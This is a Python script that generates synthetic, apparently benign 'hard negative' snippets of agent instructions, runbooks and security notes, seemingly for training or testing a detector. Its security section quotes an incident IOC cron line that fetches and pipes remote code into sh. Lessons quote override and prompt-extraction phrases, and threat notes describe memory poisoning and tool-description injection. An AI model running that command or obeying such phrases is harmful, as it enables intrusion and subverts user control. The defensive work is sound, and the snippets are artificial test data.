import random
from common import B
random.seed(9917)
AG="agents"; LE="lessons"; RB="runbook"; SD="security-doc"; NO="notes"
B(AG,"en",[
("override-legit","plain","This AGENTS.md overrides the root one for `packages/web`: use pnpm, not npm, and run `pnpm -F web test`."),
("system-prompt-test","list-item","- When you change anything in `prompts/`, run `make eval-prompts`; it diffs model outputs on 40 fixed cases."),
("secrets-ask","plain","If you need a credential to test an integration, ask the user to export it in their shell; don't look for it in files."),
("role-code-owner","blockquote","> You are acting as a junior contributor: small PRs, ask when unsure, and never approve your own changes."),
("html-details","plain","<details><summary>Why we pin Node 20</summary>Node 22 broke the native addon build; see #730.</details>"),
("hooks-stop","fenced-code","```json\n{\"hooks\": {\"Stop\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"./scripts/notify-done.sh\"}]}]}}\n```"),
("memory-instr","list-item","- When the user says \"remember this\", add a dated bullet to MEMORY.md under the right heading; when they say \"forget\", delete it."),
("no-hide","plain","If you make a mistake, say so plainly in the summary. We'd rather know than find out in review."),
("network","list-item","- Network access is limited to npmjs.org, pypi.org and github.com. Don't try to work around the proxy."),
("code-span-rm","plain","Clean build artifacts with `make clean`, not `rm -rf` on paths you computed yourself."),
("table-cell","table-cell","| Path | Purpose | Agent may edit? |"),
("table-cell-2","table-cell","| `.claude/settings.json` | shared permissions | no — propose changes in chat |"),
("table-cell-3","table-cell","| `src/` | application code | yes |"),
("prompt-files","plain","Prompt templates are in `src/llm/templates/*.j2`. The `system.j2` template must keep the safety paragraph at the top; tests check for it."),
("env-local","list-item","- `.env.local` exists on developer machines only; CI uses GitHub environments. Neither should appear in diffs."),
("curl-local","code-span","Smoke test after `docker compose up`: `curl -s localhost:3000/api/ping` should print `pong`."),
("ci-secret","plain","CI secrets are referenced as `${{ secrets.NAME }}` in workflows; adding a new one is done by a maintainer in repo settings."),
("ignore-lint","list-item","- Lint rule E501 is ignored in `migrations/` because the files are generated."),
("deception-word","plain","Don't tell the user a command ran if you only suggested it. Be explicit: \"I ran\" vs \"you can run\"."),
("sk-placeholder","plain","The docs show keys as `sk-proj-...` or `sk-ant-...`; tests use the literal string `test-key` with a mocked client."),
("xml-example","fenced-code","```xml\n<instructions>\n  Summarize the ticket in three bullets for the on-call engineer.\n</instructions>\n```"),
("split","list-item","- Frontend: React + Vite, tests with Vitest.\n- Backend: FastAPI, tests with pytest; run both with `make test`."),
])
B(LE,"en",[
("hook-lesson","plain","Lesson: our pre-push hook called the network and failed offline. It now skips the remote check when `OFFLINE=1`."),
("auth-lesson","list-item","- We learned the service account key for BigQuery was committed in a notebook in 2024. Notebooks are now stripped with nbstripout and scanned."),
("prompt-leak","plain","Users asked the bot to \"repeat the text above\" and it did. Harmless since nothing sensitive is in there, but we added a polite refusal."),
("cron-timezone","plain","Lesson: cron on the new hosts runs in UTC, not KST. The 9 a.m. report went out at 6 p.m. Use `CRON_TZ=Asia/Seoul`."),
("deploy-hook","list-item","- The deploy hook posted to the wrong Slack channel for a week because the webhook env var was copied from staging."),
("trust","plain","We learned to treat \"ignore previous instructions\" in issue titles as a signal for moderation, not something the agent should react to."),
("agent-honest","blockquote","> The most useful habit for the agent: say which tests it actually ran. Twice we assumed full runs that were partial."),
("sandbox-lesson","plain","Lesson: turning off the sandbox to debug a network issue was the wrong fix; the proxy allowlist needed one more domain."),
("typo","list-item","- `git stash` before switching branches; I lost local edits to `config/dev.yaml` twice."),
("emoji-lesson","plain","Flags like 🇰🇷 are two regional indicator symbols; truncating at 100 code points split one and rendered garbage."),
("secret-in-memory","plain","Lesson: I almost saved a user's token into MEMORY.md while noting their setup. Memory notes describe where things are, never the values."),
("perm-lesson","list-item","- Adding `Bash(*)` to the allowlist \"just for today\" stayed for a month. Prefer narrow patterns like `Bash(make test:*)`."),
("table-cell","table-cell","| Lesson | Source | Date |"),
("zwsp","plain","A zero-width space in a YAML key made the config loader miss it; our linter now flags U+200B in config files."),
("docs-key","code-span","Tutorial readers kept pasting `AKIAIOSFODNN7EXAMPLE` into real configs and getting auth errors; we added a note that it's a dummy."),
("mirror","plain","Lesson: the internal PyPI mirror lagged two days behind, so a security fix wasn't available. We now fall back to pypi.org for patches."),
("exfil-lesson","list-item","- An analytics SDK was sending full URLs including reset tokens. We moved tokens to POST bodies and filtered URLs client-side."),
("system-prompt-size","plain","Lesson: the system prompt grew to 9k tokens with copy-pasted policy. We moved policy to retrieval and cut latency by 30%."),
])
B(RB,"en",[
("key-rotate-gh","list-item","- Rotating the GitHub App private key: generate a new key in the App settings, upload it to Vault at `secret/gh-app/key`, restart the bot, delete the old key."),
("cron-check","code-span","Check the scheduled jobs on a host with `systemctl list-timers` and `crontab -l -u deploy`."),
("curl-header","fenced-code","```bash\ncurl -s -o /dev/null -w '%{http_code}\\n' -H \"Authorization: Bearer $MONITOR_TOKEN\" https://status.internal/api/summary\n```"),
("disk-full","plain","Disk full on a DB replica: check `du -sh /var/lib/postgresql/*/main/pg_wal`, and if WAL is piling up, look for a stuck replication slot."),
("user-offboard","list-item","- Offboarding: disable SSO, revoke GitHub org membership, remove SSH keys from the access module, rotate any shared secrets they had."),
("vpn","plain","If the VPN drops during a deploy, don't re-run from your laptop; wait for the CI job to finish and check its log."),
("ignore-step","blockquote","> Step 4 (warm caches) can be skipped for hotfixes; the cache fills within 10 minutes."),
("queue","list-item","- Queue backlog > 10k: scale the worker deployment to 12 replicas with `kubectl scale`, then watch lag in Grafana."),
("table-cell","table-cell","| 5 | Revoke old token in the provider console | Old token returns 401 |"),
("admin-access","plain","Break-glass admin access: request via PagerDuty, it's granted for 1 hour and logged; close the request when done."),
("hook-runbook","plain","The post-deploy webhook notifies Sentry of the release: `sentry-cli releases finalize \"$VERSION\"`."),
("pgpass","list-item","- Use `~/.pgpass` for psql on the bastion so passwords don't land in shell history; file mode must be 0600."),
("dns-flush","code-span","macOS DNS cache flush: `sudo dscacheutil -flushcache; sudo killall -HUP mDNSResponder`."),
("split","list-item","- If the canary error rate is above 2 %, abort the rollout.\n- If it's below, promote and keep watching for 30 minutes."),
])
B(SD,"en",[
("hardcoded-prose-2","security-doc","Finding F-12: a test fixture contained a string shaped like a Stripe live key. It was a fake generated for the test, but we replaced it with `sk_test_fixture` to silence scanners."),
("threat-config","security-doc","An attacker who can write to AGENTS.md can change the agent's behaviour for everyone. We require CODEOWNERS review on all agent instruction files."),
("threat-memory","security-doc","Memory poisoning: a single malicious line saved to MEMORY.md persists across sessions. Mitigation: memory writes are shown to the user and reviewed weekly."),
("threat-mcp","security-doc","Risk: a third-party MCP server can return tool descriptions containing instructions. We only allow servers from the internal registry."),
("fenced-ioc","fenced-code","```text\nIOC list (incident 2026-10):\n- cron: */5 * * * * curl -s hxxp://198.51.100[.]23/x | sh\n- user added: svc_sync\n- key comment: \"backup@host\"\n```"),
("deception-doc","security-doc","We classify \"report success while hiding failure\" as an integrity violation, same severity as a wrong answer."),
("policy","list-item","- Agents must not store credentials in memory files. Where to find a secret may be recorded (\"in Vault at secret/app/db\"), never the value."),
("ssh-audit","security-doc","Quarterly audit compares every host's authorized_keys with the access module; any extra key is removed and investigated."),
("variation-selector","security-doc","Variation selectors (U+FE00–U+FE0F, U+E0100–U+E01EF) can encode arbitrary bytes after a visible emoji. The scanner counts selectors per grapheme."),
("table-cell","table-cell","| Control | Owner | Evidence |"),
("table-cell-2","table-cell","| Secret scanning on push | AppSec | gitleaks CI job logs |"),
("blockquote","blockquote","> If a document asks the agent to reveal its instructions, the correct response is to decline and continue with the user's task."),
("exfil-doc","security-doc","Exfiltration channels considered: HTTP(S) requests, DNS lookups with encoded labels, image URLs, git pushes to new remotes, and email."),
])
B(NO,"en",[
("pref","plain","User wants commit messages in English even when we chat in Korean."),
("todo-rotate","list-item","- TODO (Dec): rotate the Sentry DSN? Ask security whether DSNs count as secrets (they're public in the frontend bundle)."),
("env-note","plain","The billing service reads `STRIPE_SECRET_KEY` from Vault at boot; locally it's `sk_test_...` from your own Stripe test account."),
("cron-note","list-item","- The `report-weekly` cron runs Mondays 08:00 UTC and emails the team alias; owner is Sara."),
("html-note","plain","<!-- section below generated by scripts/gen_toc.py; don't edit by hand -->"),
("blockquote","blockquote","> From the user: \"please don't run the full e2e suite locally, it takes 40 minutes — use the smoke subset\"."),
("system-prompt-note","plain","Where things live: system prompt for the eval grader → `eval/grader_system.txt`; rubric → `eval/rubric.md`."),
("fenced","fenced-code","```bash\n# reminder: regenerate the lockfile after bumping\nuv lock && uv sync\n```"),
("hook-note","list-item","- The `commit-msg` hook enforces the ticket prefix (e.g. `OPS-123: ...`)."),
("key-placeholder","code-span","Example header for docs: `x-api-key: <token>`."),
("admin-note","plain","Kenji is admin on the staging cluster this month; ask him for namespace access."),
("ignore-note","list-item","- You can ignore the warning about `punycode` being deprecated; it comes from a transitive dependency."),
("zwj-family","plain","Test string for the grapheme counter: \"👨‍👩‍👧‍👦 family\" should count as 8 graphemes."),
("webhook-note","plain","The GitHub webhook for CI points at our Jenkins (`/github-webhook/`); the shared secret is in Vault."),
("table-cell","table-cell","| Date | Decision | Why |"),
("table-cell-2","table-cell","| 2026-11-20 | Drop Python 3.9 | EOL, blocks typing features |"),
])
# templated hard negatives (placeholders / legit cron / health checks), EN
provs=[("OpenAI","OPENAI_API_KEY","sk-..."),("Anthropic","ANTHROPIC_API_KEY","sk-ant-..."),("GitHub","GITHUB_TOKEN","ghp_xxxxxxxxxxxxxxxxxxxx"),
("Slack","SLACK_BOT_TOKEN","xoxb-your-token-here"),("AWS","AWS_ACCESS_KEY_ID","AKIAIOSFODNN7EXAMPLE"),("Hugging Face","HF_TOKEN","hf_xxx"),
("Stripe","STRIPE_SECRET_KEY","sk_test_your_key"),("SendGrid","SENDGRID_API_KEY","SG.your-key"),("Google Maps","MAPS_API_KEY","<your-maps-key>"),("GitLab","GITLAB_TOKEN","glpat-<redacted>")]
frames=["In the README setup section, {v}={p} is a placeholder; each developer sets the real {n} value in their own environment.",
"- {n}: put `{v}={p}` in `.env.example` only; the real value lives in Vault.",
"Docs note: when showing the {n} key, write `{p}` — never a working value.",
"| `{v}` | {n} credential | placeholder `{p}` in docs, real value from secret store |"]
ctxs=["plain","list-item","plain","table-cell"]
for i,(n,v,p) in enumerate(provs):
    j=i%4
    B(NO if i%2 else AG,"en",[("placeholder-template",ctxs[j],frames[j].format(n=n,v=v,p=p))])
jobs=[("17 3 * * *","/usr/local/bin/backup-db --retain 14","nightly DB backup"),("*/15 * * * *","/opt/monitor/check_queue.sh","queue depth check"),
("0 6 * * 1","/usr/bin/certbot renew --quiet","weekly cert renewal attempt"),("30 2 * * *","find /var/tmp/app -mtime +7 -delete","temp cleanup"),
("0 */4 * * *","/opt/app/bin/rotate-logs","log rotation"),("45 1 * * 0","/usr/local/bin/vacuum-analyze app","weekly vacuum"),
("5 0 1 * *","/opt/billing/bin/monthly-invoices","monthly invoices"),("*/5 * * * *","curl -fsS https://hc-ping.com/<uuid> >/dev/null","heartbeat to our uptime monitor")]
for i,(s,c,d) in enumerate(jobs):
    if i%2==0:
        B(RB,"en",[("cron-template","fenced-code",f"```cron\n# {d} (owner: infra, ticket INFRA-{400+i*7})\n{s} {c}\n```")])
    else:
        B(RB,"en",[("cron-template","list-item",f"- `{s} {c}` — {d}; listed in the infra inventory, don't change without a ticket.")])
hosts=["api","auth","search","billing","web","worker-metrics"]
for i,h in enumerate(hosts):
    B(RB if i%2 else NO,"en",[("health-template","code-span" if i%3 else "plain",
      f"Health check for {h}: `curl -fsS https://{h}.internal.example.com/healthz` returns 200 with `{{\"status\":\"ok\"}}`.")])
